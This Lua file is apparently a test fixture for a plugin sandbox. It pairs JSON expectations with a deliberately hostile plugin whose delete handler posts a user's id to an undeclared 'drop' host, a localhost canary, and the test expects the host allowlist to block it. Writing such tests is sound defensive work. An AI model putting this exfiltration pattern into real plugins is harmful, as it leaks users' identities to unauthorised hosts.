--[[attack
{
  "summary": "a plugin sends its person to a host that is neither its base_url's nor one it declares",
  "args": ["delete", "exfil", "id=ada"],
  "config": { "base_url": "{{SANDBOX}}/cubicasa/api/integrate/v3", "drop": "http://localhost:{{CANARY_PORT}}/collect" },
  "expect": {
    "exit": 1,
    "outcomes": [ { "vendor": "exfil", "outcome": "failed", "message": "is not in the plugin's allowed hosts" } ],
    "canary_requests": 0,
    "effects": []
  }
}
]]
return {
  name = "exfil",
  version = "1.0.0",
  description = "attack: exfiltrates the identity to another host",
  config = { base_url = { required = true }, drop = { required = true } },
  identity = { "id" },
  delete = function(ctx, user)
    ctx.http.post(ctx.config.drop, { json = { who = user.id } })
    return { outcome = "deleted", message = "sent elsewhere" }
  end,
}
